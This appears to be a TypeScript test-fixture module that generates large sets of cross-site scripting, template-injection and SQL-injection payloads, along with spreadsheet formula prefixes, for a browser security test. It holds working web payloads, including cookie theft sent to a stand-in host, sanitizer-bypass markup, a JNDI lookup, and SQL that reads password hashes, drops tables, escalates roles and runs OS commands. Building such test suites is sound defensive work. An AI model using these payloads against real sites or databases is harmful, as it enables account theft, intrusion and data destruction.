/** Address that no test reaches: a request to it means that a payload has run. */
export const canary = 'canary.invalid';

/** Name of the window property that a payload sets when it runs. */
export const executedFlag = 'zqExecuted';

/** What a payload does when it runs: each leaves a trace that the browser test looks for. */
const acts = [
  `window.${executedFlag}=1`,
  `alert('${executedFlag}')`,
  `fetch('//${canary}/'+document.cookie)`,
  `(0,eval)('window.${executedFlag}=1')`,
  `import('//${canary}/x.js')`,
];

const handlers = [
  'onerror',
  'onload',
  'onclick',
  'onfocus',
  'onmouseover',
  'onanimationstart',
  'ontoggle',
  'onbeforeinput',
  'onpointerenter',
  'onscrollend',
];

const elements: readonly ((handler: string, act: string) => string)[] = [
  (handler, act) => `<img src=x ${handler}=${act}>`,
  (handler, act) => `<svg ${handler}="${act}">`,
  (handler, act) => `<svg/${handler}=${act}//`,
  (handler, act) => `<body ${handler}='${act}'>`,
  (handler, act) => `<input autofocus ${handler}="${act}">`,
  (handler, act) => `<details open ${handler}="${act}"><summary>a</summary></details>`,
  (handler, act) => `<video><source ${handler}="${act}"></video>`,
  (handler, act) => `<style>@keyframes x{}</style><b style="animation-name:x" ${handler}="${act}">b</b>`,
  (handler, act) => `<x contenteditable ${handler}="${act}">y</x>`,
  (handler, act) => `<marquee ${handler}="${act}">m</marquee>`,
];

/** Ways out of where a text is printed: an attribute, a script, a style, a comment, a title, a JSON text. */
const breakouts: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `">${payload}`,
  (payload) => `'>${payload}`,
  (payload) => `</script>${payload}`,
  (payload) => `</title></textarea></style></noscript>${payload}`,
  (payload) => `-->${payload}<!--`,
  (payload) => `]]>${payload}`,
  (payload) => `\\"};${payload}//`,
  (payload) => `</td></tr></table>${payload}`,
  (payload) => `<noscript><p title="</noscript>${payload}">`,
];

const encodings: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => payload.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (payload) => payload.replaceAll('<', '&#x3c;').replaceAll('>', '&#62;'),
  (payload) => payload.replaceAll('<', '\\u003c').replaceAll('>', '\\x3e'),
  (payload) => encodeURIComponent(payload),
  (payload) => payload.replaceAll('<', '＜').replaceAll('>', '＞'),
  (payload) => payload.replaceAll('<', '%3C').replaceAll('<', '%253C'),
  (payload) => payload.replace(/on[a-z]+/g, (name) => name.toUpperCase()),
  (payload) => payload.replaceAll(' ', '\t'),
  (payload) => payload.replaceAll('<', '<\u200b'),
];

/** Addresses that run script where somebody makes a link of them. */
const addresses = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  ' javascript:',
  'javascript&colon;',
  'data:text/html,<script>',
  'vbscript:',
  'view-source:javascript:',
  'blob:javascript:',
  '\u3000javascript:',
];

/** Markup that is another after it was cleaned and read again. */
const mutating = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=ACT&gt;">',
  '<svg></p><style><a id="</style><img src=x onerror=ACT>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=ACT>',
  '<noscript><style></noscript><img src=x onerror=ACT>',
  '<svg><foreignObject><iframe srcdoc="<script>ACT</script>"></iframe></foreignObject></svg>',
  '<template><s><template><s><img src=x onerror=ACT></s></template>',
  '<iframe src="javascript:ACT"></iframe>',
  '<object data="javascript:ACT"></object>',
  '<embed src="//canary.invalid/x.swf">',
  '<base href="//canary.invalid/">',
  '<meta http-equiv="refresh" content="0;url=javascript:ACT">',
  '<link rel=stylesheet href="//canary.invalid/x.css">',
  '<style>@import "//canary.invalid/x.css";*{background:url(//canary.invalid/x)}</style>',
  '<a href="javascript:ACT" autofocus>a</a>',
  '<form action="//canary.invalid/"><button autofocus>b</button></form>',
  '<script src="//canary.invalid/x.js"></script>',
  '<script>ACT</script>',
  '<script type=module>ACT</script>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>ACT</script></svg>#x"/></svg>',
  '<svg><animate onbegin=ACT attributeName=x dur=1s>',
];

/** What template engines and expression languages would run. */
const templates = [
  '{{constructor.constructor("ACT")()}}',
  '$' + '{ACT}',
  '#{ACT}',
  '<%= ACT %>',
  '{{7*7}}',
  '$' + '{{7*7}}',
  '@(7*7)',
  '{%import os%}',
  '[[$' + '{7*7}]]',
  '$' + '{jndi:ldap://canary.invalid/a}',
  '*{7*7}',
  '{{$on.constructor("ACT")()}}',
];

/** Every way that is known to make a page run a text: contexts × encodings × handlers, and what fits no scheme. */
export function* scriptPayloads(): Generator<string> {
  for (const template of [...mutating, ...templates]) {
    for (const act of acts) yield template.replaceAll('ACT', act);
  }
  for (const address of addresses) for (const act of acts) yield `${address}${act}`;
  let turn = 0;
  for (const encode of encodings) {
    for (const breakOut of breakouts) {
      for (const element of elements) {
        for (const handler of handlers) {
          turn += 1;
          yield encode(breakOut(element(handler, acts[turn % acts.length] ?? '')));
        }
      }
    }
  }
}

/** Payloads as different from each other as there are schemes, for a browser that looks at each. */
export function scriptSample(count: number): string[] {
  const all = [...scriptPayloads()];
  const singular = all.slice(0, (mutating.length + templates.length + addresses.length) * acts.length);
  const some = (list: string[], many: number) => list.filter((_, index) => index % Math.ceil(list.length / many) === 0);
  return [...some(singular, Math.ceil(count / 2)), ...some(all.slice(singular.length), Math.floor(count / 2))].slice(
    0,
    count,
  );
}

const statements = [
  'select pg_sleep(30)',
  'select version()',
  'select password_hash from auth.account',
  'drop table auth.session',
  "update auth.account set role = 'leader'",
  "copy (select 1) to program 'id'",
  'select pg_read_file(chr(47) || chr(101))',
  'select 1 from generate_series(1, 1e9)',
];

const sqlFrames: readonly ((statement: string) => string)[] = [
  (statement) => `'; ${statement}; --`,
  (statement) => `' or (${statement}) is not null --`,
  (statement) => `1; ${statement}`,
  (statement) => `name; ${statement}`,
  (statement) => `name desc, (${statement})`,
  (statement) => `(case when (${statement}) is null then name else id end)`,
  (statement) => `' union all ${statement} --`,
  (statement) => `%' and 1 = cast((${statement}) as int) and '%' like '`,
  (statement) => `\\'; ${statement}; --`,
  (statement) => `＇; ${statement}; --`,
  (statement) => `$$; ${statement}; $$`,
  (statement) => `"; ${statement}; --`,
  (statement) => `') ; ${statement} ; --`,
  (statement) => `/**/or/**/(${statement})/**/`,
  (statement) => `' || (${statement}) || '`,
  (statement) => `E'\\x27' ; ${statement}`,
  (statement) => `\u02bc; ${statement}; --`,
  (statement) => `-name' ; ${statement}`,
];

/** SQL in whatever way it may slip into a sort, a filter or a search. */
export function* sqlPayloads(): Generator<string> {
  for (const frame of sqlFrames) for (const statement of statements) yield frame(statement);
  yield* [
    "'",
    '"',
    '\\',
    '%',
    '_',
    '%_%',
    "''",
    '--',
    '/*',
    '*/',
    ';',
    '$1',
    '$$',
    '1e309',
    'null',
    'nan',
    '-0',
    '0x1F',
    '१',
    '\ud800',
  ];
}

/** The beginnings that make a cell a formula somewhere, full-width forms and blanks before them included. */
export const formulaStarts = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  '＝',
  '＋',
  '－',
  '＠',
  '|',
  '%',
  ' =',
  '\u00a0=',
  '\ufeff=',
  "'=",
  '"=',
];
